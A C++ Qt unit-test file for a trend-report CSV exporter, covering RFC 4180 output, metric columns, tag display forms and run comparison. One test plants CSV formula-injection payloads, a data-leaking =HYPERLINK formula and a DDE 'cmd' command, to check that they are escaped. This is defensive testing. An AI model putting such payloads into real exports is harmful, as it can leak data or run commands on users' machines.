#include <QBuffer>
#include <QDir>
#include <QFile>
#include <QLocale>
#include <QTemporaryDir>
#include <QTest>

#include "core/report/csvcell.h"
#include "core/report/csvexport.h"
#include "tests/core/report/reportfixture.h"
#include "tests/support/testdata.h"

using namespace Qt::StringLiterals;

namespace {

/// A strict RFC 4180 reader: CRLF record ends, quoted fields with doubled quotes. Returns
/// nullopt on anything else (a bare LF outside quotes, a stray quote), so the test fails on it.
std::optional<QList<QStringList>> parseRfc4180(const QString &text)
{
    QList<QStringList> rows;
    QStringList row;
    QString field;
    bool quoted = false;
    bool fieldStarted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == u'"') {
                if (i + 1 < text.size() && text.at(i + 1) == u'"') {
                    field += u'"';
                    ++i;
                } else {
                    quoted = false;
                }
            } else {
                field += c;
            }
            continue;
        }
        if (c == u'"') {
            if (fieldStarted)
                return std::nullopt;
            quoted = true;
            fieldStarted = true;
        } else if (c == u',') {
            row.append(field);
            field.clear();
            fieldStarted = false;
        } else if (c == u'\r') {
            if (i + 1 >= text.size() || text.at(i + 1) != u'\n')
                return std::nullopt;
            ++i;
            row.append(field);
            rows.append(row);
            row.clear();
            field.clear();
            fieldStarted = false;
        } else if (c == u'\n') {
            return std::nullopt;
        } else {
            field += c;
            fieldStarted = true;
        }
    }
    if (quoted || !row.isEmpty() || !field.isEmpty())
        return std::nullopt; // the last record must end with CRLF
    return rows;
}

} // namespace

class TestCsvExport final : public QObject
{
    Q_OBJECT

private:
    QTemporaryDir m_dir;

    QList<QStringList> exportAndParse(const RunResult &run, const CsvOptions &options = {})
    {
        const QString path = m_dir.filePath(u"tiles.csv"_s);
        const Status status = writeTilesCsv(run, path, options);
        if (!status.ok())
            qWarning("%s", qPrintable(status.error().message));
        QFile file(path);
        if (!status.ok() || !file.open(QIODevice::ReadOnly))
            return {};
        QByteArray bytes = file.readAll();
        if (!bytes.startsWith("\xEF\xBB\xBF"))
            return {};
        bytes.remove(0, 3);
        return parseRfc4180(QString::fromUtf8(bytes)).value_or(QList<QStringList>{});
    }

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(m_dir.isValid());
        QLocale::setDefault(QLocale(QLocale::French, QLocale::France)); // comma decimals must not leak in
    }

    void writesBomCrlfAndOneRowPerTile()
    {
        const QString path = m_dir.filePath(u"raw.csv"_s);
        QVERIFY(writeTilesCsv(reportfixture::threeTiles(), path).ok());
        QFile file(path);
        QVERIFY(file.open(QIODevice::ReadOnly));
        const QByteArray bytes = file.readAll();
        QVERIFY(bytes.startsWith("\xEF\xBB\xBF" "run_id,rank,trend_id,title,anchor,hashtags,anchor_display,hashtags_display,urgency,"));
        QVERIFY(bytes.endsWith("\r\n"));
        QCOMPARE(bytes.count("\r\n"), 4); // header + three tiles; the non-trend cluster is not a tile

        const auto rows = exportAndParse(reportfixture::threeTiles());
        QCOMPARE(rows.size(), 4);
        for (const QStringList &row : rows)
            QCOMPARE(row.size(), rows.first().size());
    }

    void valuesReadBack()
    {
        const auto rows = exportAndParse(reportfixture::threeTiles());
        QCOMPARE(rows.size(), 4);
        const QStringList header = rows.at(0);
        auto cell = [&](int row, const QString &column) {
            const qsizetype c = header.indexOf(column);
            return c < 0 ? u"<no column "_s + column + u'>' : rows.at(row).at(c);
        };
        QCOMPARE(header.last(), u"recommendation"_s);
        QCOMPARE(header.at(header.size() - 2), u"insight"_s);
        QVERIFY(header.contains(u"significance_threshold"_s));
        QVERIFY(header.contains(u"unique_creators_passed"_s));

        QCOMPARE(cell(1, u"run_id"_s), u"84"_s);
        QCOMPARE(cell(1, u"rank"_s), u"1"_s);
        QCOMPARE(cell(1, u"trend_id"_s), u"t-3f9a2c"_s);
        QCOMPARE(cell(1, u"title"_s), u"#matchalatte #抹茶拿铁 #icedmatcha"_s);
        QCOMPARE(cell(1, u"hashtags"_s), u"matchalatte 抹茶拿铁 icedmatcha"_s);
        QCOMPARE(cell(1, u"urgency"_s), u"act_now"_s);
        QCOMPARE(cell(1, u"engagement_rate"_s), u"0.123"_s);
        QCOMPARE(cell(1, u"growth"_s), u"4.3"_s);
        QCOMPARE(cell(1, u"velocity"_s).toDouble(), 41414 / 7.7);
        QCOMPARE(cell(1, u"creator_diversity"_s).toDouble(), 37.0 / 42.0);
        QCOMPARE(cell(1, u"unique_creators"_s), u"37"_s);
        QCOMPARE(cell(1, u"platforms"_s), u"tiktok xiaohongshu douyin"_s);
        QCOMPARE(cell(1, u"regions"_s), u"CN-ZJ; CN-SH; US; GB; JP; KR"_s);
        QCOMPARE(cell(1, u"cross_platform"_s), u"true"_s);
        QCOMPARE(cell(1, u"first_seen"_s), u"2025-05-31T16:18:00Z"_s);
        QCOMPARE(cell(1, u"growth_value"_s), u"4.3"_s);
        QCOMPARE(cell(1, u"growth_threshold"_s), u"1.5"_s);
        QCOMPARE(cell(1, u"growth_passed"_s), u"true"_s);
        QCOMPARE(cell(1, u"insight"_s), u"#matchalatte posts grew 4.3× over baseline across 3 platforms and 6 regions, from 37 creators"_s);

        QCOMPARE(cell(2, u"trend_id"_s), u"t-b10c3e"_s);
        QCOMPARE(cell(2, u"engagement_rate"_s), QString()); // undefined → empty
        QCOMPARE(cell(2, u"insight"_s), u"#blokecore grew 2.6×, mostly on \"match day\" posts"_s);
        QCOMPARE(cell(2, u"surge_z"_s), u"6.01"_s);
        QCOMPARE(cell(3, u"urgency"_s), u"monitor"_s);
        QCOMPARE(cell(3, u"cross_platform"_s), u"false"_s);
        QCOMPARE(cell(1, u"lifecycle"_s), u"rising"_s);
        QCOMPARE(cell(3, u"lifecycle"_s), u"steady"_s);
        QCOMPARE(cell(1, u"covered_baseline_windows"_s), u"2"_s);
    }

    void undefinedMetricsAreEmptyCells()
    {
        // SPEC 3, "no baseline": growth, surge_z and significance undefined; their checks failed with a reason
        RunResult run = reportfixture::threeTiles();
        ClusterResult &c = run.clusters[2];
        c.growth.reset();
        c.surgeZ.reset();
        c.significance.reset();
        c.checks[4] = ValidationCheck{u"growth"_s, std::nullopt, 1.5, false, u"no baseline data"_s};
        const auto rows = exportAndParse(run);
        const QStringList header = rows.at(0);
        for (const QString &column : {u"growth"_s, u"surge_z"_s, u"significance"_s, u"growth_value"_s})
            QCOMPARE(rows.at(3).at(header.indexOf(column)), QString());
        QCOMPARE(rows.at(3).at(header.indexOf(u"growth_passed"_s)), u"false"_s);
    }

    void quotesOnlyWhereNeeded()
    {
        QBuffer buffer;
        buffer.open(QIODevice::WriteOnly);
        QVERIFY(writeTilesCsv(reportfixture::threeTiles(), buffer, CsvOptions{{}, false}).ok());
        const QString text = QString::fromUtf8(buffer.data());
        QVERIFY(!buffer.data().startsWith("\xEF\xBB\xBF"));
        QVERIFY(text.contains(u",\"#blokecore grew 2.6×, mostly on \"\"match day\"\" posts\","_s));
        QVERIFY(text.contains(u",#matchalatte #抹茶拿铁 #icedmatcha,"_s));
    }

    void formulasAreEscaped()
    {
        // Finding 9 of issue 15: a tag such as =HYPERLINK(...) was written as is into `anchor` and `hashtags`, and a
        // spreadsheet ran it. Every text cell that starts with = + - @ tab or CR is prefixed with ' and quoted.
        const QString payload = u"=HYPERLINK(\"http://x\"&A1,\"click\")"_s;
        RunResult run = reportfixture::threeTiles();
        ClusterResult *tile = nullptr;
        for (ClusterResult &c : run.clusters) {
            if (c.trendId == u"t-3f9a2c"_s)
                tile = &c;
        }
        QVERIFY(tile);
        tile->anchor = payload;
        tile->hashtags = {payload, u"matcha"_s};
        tile->title = u"+cmd|' /C calc'!A0"_s;
        tile->insight = u"@SUM(1+1)"_s;
        tile->recommendation = u"\tTAB"_s;
        tile->regions = {u"-2+3"_s};

        QBuffer buffer;
        buffer.open(QIODevice::WriteOnly);
        QVERIFY(writeTilesCsv(run, buffer, CsvOptions{{u"t-3f9a2c"_s}, false}).ok());
        const QString text = QString::fromUtf8(buffer.data());
        QVERIFY2(text.contains(u",\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\","_s), qPrintable(text));
        QVERIFY(!text.contains(u",=HYPERLINK"_s));

        const auto rows = exportAndParse(run, CsvOptions{{u"t-3f9a2c"_s}, true});
        QCOMPARE(rows.size(), 2);
        const QStringList header = rows.at(0);
        auto cell = [&](const QString &column) { return rows.at(1).at(header.indexOf(column)); };
        QCOMPARE(cell(u"anchor"_s), u"'"_s + payload);
        QCOMPARE(cell(u"hashtags"_s), u"'"_s + payload + u" matcha"_s);
        QCOMPARE(cell(u"title"_s), u"'+cmd|' /C calc'!A0"_s);
        QCOMPARE(cell(u"insight"_s), u"'@SUM(1+1)"_s);
        QCOMPARE(cell(u"recommendation"_s), u"'\tTAB"_s);
        QCOMPARE(cell(u"regions"_s), u"'-2+3"_s);
        // Numbers stay numbers: a negative surge_z is not a formula.
        QCOMPARE(csvCell(u"-1.5"_s), u"-1.5"_s);
        QCOMPARE(csvCell(u"+3"_s), u"+3"_s);
        QCOMPARE(csvCell(u"-"_s), u"\"'-\""_s);
        QCOMPARE(csvCell(u"\rx"_s), u"\"'\rx\""_s);
        QCOMPARE(csvCell(u"a,b"_s), u"\"a,b\""_s);
        QCOMPARE(csvCell(u"plain"_s), u"plain"_s);
    }

    void tagsInTheirDisplayForms()
    {
        // SPEC section 1 / issue 10: the export shows each tag as most posts wrote it, next to the normalized
        // columns, which stay as they were; a tag without a display form shows as itself.
        RunResult run = reportfixture::threeTiles();
        ClusterResult &matcha = run.clusters[0];
        QCOMPARE(matcha.anchor, u"matchalatte"_s);
        matcha.hashtagsDisplay = {u"MatchaLatte"_s, u"抹茶拿铁"_s, u"IcedMatcha"_s};
        matcha.title = u"#MatchaLatte #抹茶拿铁 #IcedMatcha"_s;
        const auto rows = exportAndParse(run);
        const QStringList header = rows.at(0);
        auto cell = [&](int row, const QString &column) {
            const qsizetype c = header.indexOf(column);
            return c < 0 ? u"<no column "_s + column + u'>' : rows.at(row).at(c);
        };
        QCOMPARE(cell(1, u"anchor"_s), u"matchalatte"_s);
        QCOMPARE(cell(1, u"hashtags"_s), u"matchalatte 抹茶拿铁 icedmatcha"_s);
        QCOMPARE(cell(1, u"anchor_display"_s), u"MatchaLatte"_s);
        QCOMPARE(cell(1, u"hashtags_display"_s), u"MatchaLatte 抹茶拿铁 IcedMatcha"_s);
        QCOMPARE(cell(1, u"title"_s), u"#MatchaLatte #抹茶拿铁 #IcedMatcha"_s);
        QCOMPARE(cell(2, u"anchor_display"_s), cell(2, u"anchor"_s));
        QCOMPARE(cell(2, u"hashtags_display"_s), cell(2, u"hashtags"_s));
    }

    void matchesTheReviewedFile()
    {
        // tests/data/report/three_tiles.csv was checked by hand (and opened in LibreOffice); any
        // byte that changes in the export — order, quoting, number form — shows up here.
        QBuffer buffer;
        buffer.open(QIODevice::WriteOnly);
        QVERIFY(writeTilesCsv(reportfixture::threeTiles(), buffer).ok());
        const QString keep = qEnvironmentVariable("GT_KEEP_CSV");
        if (!keep.isEmpty()) {
            QFile out(keep);
            QVERIFY(out.open(QIODevice::WriteOnly));
            out.write(buffer.data());
        }
        // sourcePath: gt_add_test sets GT_TEST_DATA relative to the calling folder (tests/core/data here).
        QFile expected(testsupport::sourcePath(u"tests/data/report/three_tiles.csv"_s));
        QVERIFY2(expected.open(QIODevice::ReadOnly), qPrintable(expected.fileName()));
        QCOMPARE(buffer.data(), expected.readAll());
    }

    /// "Compare with…": the comparison columns on every tile, and a row for a trend that is gone.
    void comparisonColumnsAndGoneRows()
    {
        const RunResult run = reportfixture::threeTiles();
        RunTrends before = RunTrends::of(run);
        before.runId = u"pinned"_s;
        // Before: the second tile was first and had a smaller growth; the third was not a trend; one more was.
        std::swap(before.trends[0].rank, before.trends[1].rank);
        before.trends[1].growth = before.trends[1].growth.value_or(0) - 0.5;
        before.trends[1].urgency = u"monitor"_s;
        before.trends.removeAt(2);
        ClusterResult gone = before.trends[0];
        gone.trendId = u"t_gone"_s;
        gone.anchor = u"yuzu"_s;
        gone.hashtags = {u"yuzu"_s};
        gone.hashtagsDisplay = {u"Yuzu"_s};
        gone.rank = 3;
        before.trends.append(gone);
        CsvOptions options;
        options.comparison = compareRuns(before, RunTrends::of(run));

        const auto rows = exportAndParse(run, options);
        QCOMPARE(rows.size(), 1 + 3 + 1);
        const QStringList header = rows.first();
        for (const QStringList &row : rows)
            QCOMPARE(row.size(), header.size());
        const auto column = [&](const QString &name) { return header.indexOf(name); };
        QCOMPARE(header.mid(header.size() - 8),
                 (QStringList{u"compared_with"_s, u"change"_s, u"previous_rank"_s, u"rank_change"_s, u"previous_growth"_s,
                              u"growth_change"_s, u"previous_urgency"_s, u"failed_checks_now"_s}));
        const QStringList first = rows.at(1);  // rank 1 now, rank 2 before: up one
        QCOMPARE(first.at(column(u"change"_s)), u"kept"_s);
        QCOMPARE(first.at(column(u"compared_with"_s)), u"pinned"_s);
        QCOMPARE(first.at(column(u"previous_rank"_s)), u"2"_s);
        QCOMPARE(first.at(column(u"rank_change"_s)), u"1"_s);
        const QStringList second = rows.at(2); // rank 2 now, 1 before: down one; growth up by 0.5
        QCOMPARE(second.at(column(u"rank_change"_s)), u"-1"_s);
        QCOMPARE(second.at(column(u"growth_change"_s)), u"0.5"_s);
        QCOMPARE(second.at(column(u"previous_urgency"_s)), u"monitor"_s);
        const QStringList third = rows.at(3);
        QCOMPARE(third.at(column(u"change"_s)), u"new"_s);
        QVERIFY(third.at(column(u"previous_rank"_s)).isEmpty());
        QVERIFY(third.at(column(u"rank_change"_s)).isEmpty());
        const QStringList goneRow = rows.at(4);
        QCOMPARE(goneRow.at(column(u"change"_s)), u"gone"_s);
        QCOMPARE(goneRow.at(column(u"trend_id"_s)), u"t_gone"_s);
        QCOMPARE(goneRow.at(column(u"anchor"_s)), u"yuzu"_s);
        QCOMPARE(goneRow.at(column(u"anchor_display"_s)), u"Yuzu"_s);
        QVERIFY(goneRow.at(column(u"rank"_s)).isEmpty());
        QCOMPARE(goneRow.at(column(u"previous_rank"_s)), u"3"_s);
        QCOMPARE(goneRow.at(column(u"run_id"_s)), run.runId);
    }

    void selectsTiles()
    {
        const auto rows = exportAndParse(reportfixture::threeTiles(), CsvOptions{{u"t-c0771e"_s}, true});
        QCOMPARE(rows.size(), 2);
        QCOMPARE(rows.at(1).at(2), u"t-c0771e"_s);

        const QString path = m_dir.filePath(u"none.csv"_s);
        const Status none = writeTilesCsv(reportfixture::threeTiles(), path, CsvOptions{{u"t-nope"_s}, true});
        QVERIFY(!none.ok());
        QCOMPARE(none.error().code, u"invalid_value"_s);
        QVERIFY(!QFile::exists(path));
    }

    void failedExportLeavesNoFile()
    {
        const QString path = m_dir.filePath(u"missing-dir/tiles.csv"_s);
        const Status status = writeTilesCsv(reportfixture::threeTiles(), path);
        QVERIFY(!status.ok());
        QCOMPARE(status.error().code, u"io"_s);
        QVERIFY(status.error().message.contains(path));
        QVERIFY(!QFile::exists(path));

        QBuffer closed;
        QVERIFY(!writeTilesCsv(reportfixture::threeTiles(), closed).ok());
    }
};

QTEST_GUILESS_MAIN(TestCsvExport)
#include "tst_csvexport.moc"
